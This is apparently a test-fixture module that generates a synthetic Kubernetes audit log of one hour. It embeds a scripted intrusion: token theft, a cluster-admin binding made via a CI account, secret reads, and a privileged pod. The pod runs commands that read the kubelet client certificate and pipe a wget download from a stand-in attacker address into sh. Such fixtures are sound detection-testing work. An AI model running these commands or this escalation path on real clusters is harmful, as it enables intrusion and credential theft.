// testing/logs: the sample incident: an ordinary hour with one intrusion in it. The story, in its order:
//   1. somebody at an outside address asks around without credentials, then with a token that is no longer good;
//   2. comes back with the token of a service account, meets denials, but may list secrets in four namespaces;
//   3. finds a build account's token among them, and with it binds the first account to cluster-admin;
//   4. reads every secret, starts a privileged pod on a node, runs commands in it, and deletes it again.

import { bindingRequest, podRequest, podResponse } from "./bodies.mjs";
import { allowedBy, createCluster, fromPod } from "./cluster.mjs";
import { batchJobs, builds, gitOps, people } from "./company.mjs";
import { linesOf } from "./event.mjs";
import { asker, MINUTE, SECOND } from "./hour.mjs";
import { addons, controlPlane, kubelets, watches } from "./machinery.mjs";
import { createRandom } from "./random.mjs";

/** @typedef {import("./event.mjs").Actor} Actor */
/** @typedef {import("./event.mjs").Request} Request */
/** @typedef {import("./event.mjs").Target} Target */
/** @typedef {import("./hour.mjs").Hour} Hour */

const INCIDENT_START = Date.UTC(2026, 8, 14, 13) * 1000;
const MAKERS = [kubelets, controlPlane, watches, addons, gitOps, batchJobs, builds, people];
const OUTSIDE = "203.0.113.77";
const KUBECTL = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46";
const BINDING = "sync-metrics-reader";

/**
 * The log as text, one event a line, in the order a server writes: by when a stage is reached.
 * @param {number} [seed]
 */
export function incidentLog(seed = 1) {
  const random = createRandom(seed);
  const hour = {
    cluster: createCluster(random),
    random,
    start: INCIDENT_START,
    end: INCIDENT_START + 60 * MINUTE,
  };
  const requests = [...MAKERS, intrusion].flatMap((make) => [...make(hour)]);
  const lines = requests.flatMap((request) => linesOf(request, random.uuid()));
  const written = lines.filter((line) => line.at < hour.end).toSorted((a, b) => a.at - b.at);
  return written.map(({ line }) => `${line}\n`).join("");
}

/**
 * @param {Hour} hour
 * @returns {Iterable<Request>}
 */
function* intrusion({ cluster, random, start }) {
  const ask = asker(random);
  let now = start;
  /** @param {number} minute @param {number} second */
  const goTo = (minute, second) => {
    now = start + minute * MINUTE + second * SECOND + random.int(SECOND);
  };
  /**
   * @param {Actor} actor
   * @param {number} code
   * @param {string} verb
   * @param {Target | string} on
   * @param {Partial<Request>} [more]
   * @returns {Request}
   */
  const step = (actor, code, verb, on, more) => {
    now += 1_500_000 + random.int(4 * SECOND);
    return ask(actor, verb, on, now, { code, ...more });
  };

  // 1. Who is there?
  goTo(21, 4);
  const nobody = cluster.anonymous(OUTSIDE, "curl/8.7.1");
  yield step(nobody, 200, "get", "/version");
  for (const path of [
    "/api",
    "/apis",
    "/openapi/v2",
    "/metrics",
    "/.well-known/openid-configuration",
  ]) {
    yield step(nobody, 403, "get", path);
  }
  for (const resource of ["namespaces", "nodes", "secrets", "pods"]) {
    yield step(nobody, 403, "list", { resource });
  }
  yield step(nobody, 403, "list", { resource: "pods", namespace: "kube-system" });
  yield step(nobody, 403, "list", { resource: "secrets", namespace: "kube-system" });
  goTo(24, 40);
  const rejected = { ...nobody, user: {} };
  for (const resource of ["namespaces", "secrets"]) {
    yield step(rejected, 401, "list", { resource }, { stages: ["ResponseStarted"] });
  }

  // 2. A token that works, far from its pod.
  goTo(26, 12);
  const home = fromPod(cluster, cluster.podOf("shipment-sync"));
  /** @param {string} reason @returns {Actor} */
  const sync = (reason) => ({ ...home, ip: OUTSIDE, agent: KUBECTL, reason });
  const stolen = sync(
    'RBAC: allowed by ClusterRoleBinding "system:basic-user" of ClusterRole "system:basic-user" to Group "system:authenticated"',
  );
  yield step(stolen, 201, "create", {
    resource: "selfsubjectreviews",
    group: "authentication.k8s.io",
  });
  yield step(stolen, 201, "create", {
    resource: "selfsubjectrulesreviews",
    group: "authorization.k8s.io",
  });
  yield step(stolen, 403, "list", { resource: "secrets" }, { query: "limit=500" });
  yield step(
    stolen,
    403,
    "list",
    { resource: "secrets", namespace: "kube-system" },
    { query: "limit=500" },
  );
  yield step(stolen, 403, "list", { resource: "nodes" }, { query: "limit=500" });
  yield step(
    stolen,
    403,
    "create",
    { resource: "clusterrolebindings", group: "rbac.authorization.k8s.io" },
    { query: "fieldManager=kubectl-create" },
  );
  yield step(
    stolen,
    403,
    "create",
    { resource: "pods", namespace: "kube-system" },
    { query: "fieldManager=kubectl-run" },
  );
  goTo(29, 30);
  for (const namespace of ["tracking", "booking", "billing", "ci"]) {
    const actor = sync(
      allowedBy(
        "RoleBinding",
        `carrier-sync/${namespace}`,
        "carrier-sync",
        'ServiceAccount "shipment-sync/tracking"',
      ),
    );
    yield step(actor, 200, "list", { resource: "secrets", namespace }, { query: "limit=500" });
    if (namespace === "ci") {
      yield step(actor, 200, "get", {
        resource: "secrets",
        namespace,
        name: "helm-deployer-token",
      });
    }
  }

  // 3. The build account may bind roles.
  goTo(33, 2);
  const deployer = cluster.serviceAccount("ci", "helm-deployer", {
    ip: OUTSIDE,
    agent: KUBECTL,
    reason: allowedBy(
      "ClusterRoleBinding",
      "helm-deployer-installs",
      "release-installer",
      'ServiceAccount "helm-deployer/ci"',
    ),
  });
  const grant = bindingRequest({
    name: BINDING,
    role: "cluster-admin",
    namespace: "tracking",
    account: "shipment-sync",
  });
  yield step(
    deployer,
    201,
    "create",
    { resource: "clusterrolebindings", group: "rbac.authorization.k8s.io", name: BINDING },
    {
      query: "fieldManager=kubectl-create&fieldValidation=Strict",
      level: "RequestResponse",
      requestObject: grant,
      responseObject: {
        ...grant,
        metadata: {
          name: BINDING,
          uid: random.uuid(),
          resourceVersion: "573302",
          creationTimestamp: "2026-09-14T13:33:05Z",
        },
      },
      annotations: {
        "authentication.k8s.io/legacy-token": "system:serviceaccount:ci:helm-deployer",
      },
    },
  );

  // 4. Everything is allowed now.
  goTo(34, 10);
  const admin = sync(
    allowedBy(
      "ClusterRoleBinding",
      BINDING,
      "cluster-admin",
      'ServiceAccount "shipment-sync/tracking"',
    ),
  );
  yield step(admin, 200, "list", { resource: "secrets" }, { query: "limit=500" });
  yield step(admin, 200, "get", {
    resource: "secrets",
    namespace: "flux-system",
    name: "deploy-key",
  });
  yield step(admin, 200, "get", {
    resource: "secrets",
    namespace: "billing",
    name: "payment-gateway",
  });
  yield step(admin, 200, "list", { resource: "nodes" }, { query: "limit=500" });

  goTo(37, 20);
  const node = cluster.nodes[2] ?? random.pick(cluster.nodes);
  const pod = {
    resource: "pods",
    namespace: "kube-system",
    name: `node-tuner-${random.suffix(5)}`,
  };
  const plan = {
    name: pod.name,
    namespace: pod.namespace,
    image: "docker.io/library/alpine:3.20",
    command: ["sleep", "86400"],
    node: node.name,
    privileged: true,
  };
  yield step(admin, 201, "create", pod, {
    query: "fieldManager=kubectl-run",
    level: "RequestResponse",
    requestObject: podRequest(plan),
    responseObject: podResponse(plan, { random, at: now, revision: 574_118 }),
    annotations: { "pod-security.kubernetes.io/enforce-policy": "privileged:latest" },
  });
  for (let i = 0; i < 2; i++) {
    yield step(cluster.kubelet(node), 200, "patch", { ...pod, subresource: "status" });
  }
  goTo(38, 5);
  for (const command of [
    "chroot /host cat /var/lib/kubelet/pki/kubelet-client-current.pem",
    `wget -qO- http://${OUTSIDE}/k | sh`,
  ]) {
    const argv = ["sh", "-c", command].map(
      (word) => `command=${encodeURIComponent(word).replaceAll("%20", "+")}`,
    );
    yield step(
      admin,
      101,
      "get",
      { ...pod, subresource: "exec" },
      {
        query: `${argv.join("&")}&container=node-tuner&stderr=true&stdout=true`,
        took: 3 * SECOND + random.int(40 * SECOND),
        stages: ["RequestReceived", "ResponseStarted", "ResponseComplete"],
      },
    );
  }
  goTo(45, 51);
  yield step(admin, 200, "delete", pod, {
    level: "Request",
    requestObject: { kind: "DeleteOptions", apiVersion: "v1", gracePeriodSeconds: 0 },
  });
}
